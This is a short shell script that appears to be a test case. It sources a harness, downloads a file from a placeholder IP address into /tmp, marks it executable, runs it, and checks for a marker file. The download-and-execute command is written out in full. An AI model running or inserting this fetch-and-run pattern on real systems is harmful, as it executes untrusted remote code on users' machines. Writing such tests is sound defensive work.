#!/bin/sh
. /opt/case/case.sh

curl -s -o /tmp/update http://203.0.113.10/programs/marker
chmod 755 /tmp/update
/tmp/update
test -e /tmp/reached
took_place
